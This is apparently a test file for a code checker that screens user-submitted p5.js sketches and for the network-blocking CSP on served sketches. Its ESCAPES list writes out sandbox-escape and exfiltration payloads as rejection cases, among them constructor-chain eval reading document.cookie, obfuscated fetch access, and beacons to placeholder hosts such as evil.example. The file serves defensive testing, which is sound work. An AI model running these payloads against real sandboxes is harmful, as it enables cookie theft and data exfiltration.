import t from 'tap'
import { checkSketch, SKETCH_CSP } from '../../services/safety/code-check.js'

// Hole 4: every escape the issue lists, and more of their kind, must be refused.
const ESCAPES = [
  '[].constructor.constructor("alert(document.cookie)")()', '(0,eval)("fetch(\'https://x\')")', "window['fe'+'tch']('https://x')",
  "document['coo'+'kie']", "new Image().src = 'https://x/?c=' + 1", "function setup () { loadImage('https://evil.example/x.png') }",
  "top['loc'+'ation'] = 'https://x'", "const k = 'constr' + 'uctor'; [][k][k]('x')()", "const a = []; a.push('con' + 'structor'); [][a[0]]",
  "fetch('https://x')", 'let x = new XMLHttpRequest()', "navigator.sendBeacon('https://x', 'd')", "localStorage.setItem('a', 'b')",
  "location.href = 'https://x'", "window.open('https://x')", 'setTimeout("alert(1)", 10)', "import('https://x/m.js')",
  'function f () { return this } f().fetch', "function g (o, k) { return o[k] } g([], 'con' + 'struc' + 'tor')", "httpGet('https://x')",
  "const s = new WebSocket('wss://x')", "document.body.innerHTML = '<img src=x>'", 'Object.getPrototypeOf(function () {})',
  "Reflect.get([], 'x')", "this.location = 'https://x'", 'with (Math) { cos(1) }', 'function draw ( {', 'const { constructor: c } = []',
  'for (const k in this) {}', 'globalThis.fetch', "const f = Function; f('x')", "[]['constructor']", 'loadJSON(url)',
  "parent.postMessage('x', '*')", "let o = { toString () { return 'con' + 'structor' } }; [][o]", "loadStrings('https://x')",
  "loadSound('https://x/a.mp3')", 'let img = createImg(url)', "storeItem('k', 1)", "select('body').html('x')",
  "const w = this; w.alert('x')", "const el = createElement('script')"
]

const SKETCHES = [
  'function setup () { createCanvas(400, 400) }\nfunction draw () { background(220); ellipse(mouseX, mouseY, 50, 50) }',
  'let balls = []\nfunction setup () { createCanvas(400, 400); for (let i = 0; i < 10; i++) balls.push({ x: random(width), y: random(height), r: random(10, 40) }) }\n' +
    'function draw () { background(0); for (let i = 0; i < balls.length; i++) { const b = balls[i]; fill(255, 100, 0); circle(b.x, b.y, b.r) } }',
  'class Ball {\n  constructor (x, y) { this.x = x; this.y = y; this.vx = random(-2, 2) }\n  move () { this.x += this.vx; if (this.x > width || this.x < 0) this.vx *= -1 }\n  show () { circle(this.x, this.y, 20) }\n}\n' +
    'let b\nfunction setup () { createCanvas(400, 400); b = new Ball(200, 200) }\nfunction draw () { background(255); b.move(); b.show() }',
  'let t = 0\nfunction draw () { background(20); noStroke(); for (let x = 0; x < width; x += 10) { const y = noise(x * 0.01, t) * height; rect(x, y, 8, 8) } t += 0.01 }',
  "const colors = ['red', 'green', 'blue']\nlet idx = 0\nfunction mousePressed () { idx = (idx + 1) % colors.length }\n" +
    "function keyPressed () { if (key === 's') idx = 0; if (keyCode === LEFT_ARROW) idx = 2 }\nfunction draw () { fill(colors[idx]); square(10, 10, 50) }",
  'let grid = []\nfunction setup () { createCanvas(200, 200); for (let i = 0; i < 10; i++) { grid[i] = []; for (let j = 0; j < 10; j++) grid[i][j] = floor(random(2)) } }\n' +
    'function cell (i, j) { return grid[i][j] }\nfunction draw () { for (let i = 0; i < 10; i++) for (let j = 0; j < 10; j++) { fill(cell(i, j) * 255); rect(i * 20, j * 20, 20, 20) } }',
  'function setup () { createCanvas(400, 400, WEBGL); angleMode(DEGREES) }\nfunction draw () { background(0); rotateY(frameCount); normalMaterial(); box(100); push(); translate(100, 0); sphere(30); pop() }',
  "const shapes = [{ kind: 'circle', x: 50 }, { kind: 'square', x: 150 }]\nfunction draw () { for (const s of shapes) { if (s.kind === 'circle') circle(s.x, 100, 40); else square(s.x, 80, 40) }\n" +
    "  text('Hallo ' + nf(frameCount, 3), 10, 20); const v = createVector(1, 2); v.mult(2); stroke(Math.sin(v.x) * 255) }",
  'let stars = Array.from({ length: 50 }, () => ({ x: random(400), y: random(400) }))\nfunction draw () { background(0); stars.forEach((s) => point(s.x, s.y)); const p = stars.map((s) => s.x).filter((x) => x > 200) }',
  "function setup () { createCanvas(300, 300); colorMode(HSB); textAlign(CENTER, CENTER) }\nfunction draw () { const h = (frameCount * 2) % 360; background(h, 80, 90); textSize(32); text('Sonne ☀', width / 2, height / 2) }\n" +
    'function keyTyped () { if (key === \'r\') randomSeed(42) }'
]

t.test('hole 4: the escapes are refused', async (t) => {
  for (const code of ESCAPES) t.ok(checkSketch(code).length > 0, code)
})

t.test('ordinary sketches pass: loops, classes, arrays of shapes, random, noise, handlers', async (t) => {
  for (const code of SKETCHES) t.same(checkSketch(code), [], code.slice(0, 60))
})

t.test('a refusal says what and where', async (t) => {
  t.same(checkSketch('function draw () {\n  fetch("https://x")\n}'), [{ what: 'fetch', line: 2 }])
  t.match(checkSketch('function draw ( {'), [{ what: 'code that cannot be parsed' }])
})

t.test('loaders pass with a literal data: URL only', async (t) => {
  t.same(checkSketch("let img\nfunction preload () { img = loadImage('data:image/png;base64,AAAA') }"), [])
  t.ok(checkSketch("let u = 'data:' + x\nloadImage(u)").length > 0)
})

t.test('the CSP for served sketches forbids network access', async (t) => {
  t.match(SKETCH_CSP, /default-src 'none'/)
  t.match(SKETCH_CSP, /connect-src 'none'/)
  t.match(SKETCH_CSP, /form-action 'none'/)
  t.notMatch(SKETCH_CSP, /https?:/)
})
